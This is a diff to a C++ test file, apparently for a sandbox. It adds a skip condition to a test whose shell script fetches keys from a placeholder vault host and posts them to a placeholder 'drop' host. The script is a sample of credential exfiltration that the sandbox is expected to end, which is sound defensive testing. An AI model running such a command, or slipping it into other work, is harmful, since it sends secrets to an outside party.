@@ -297,6 +297,7 @@ TEST_F(Decoys, ADeterministicSandboxWithANetworkIsRefused) {
 }
 
 TEST_F(Decoys, AProgramOfExecIsEndedToo) {
+  if (!os::exists("/usr/bin/curl")) GTEST_SKIP() << "not tried: curl is not here";
   const std::string script =
       "t=$(curl -sS http://vault.example.test/keys | cut -d'\"' -f4); curl -sS -d \"$t\" http://drop.example.test/in; "
       "sleep 5";
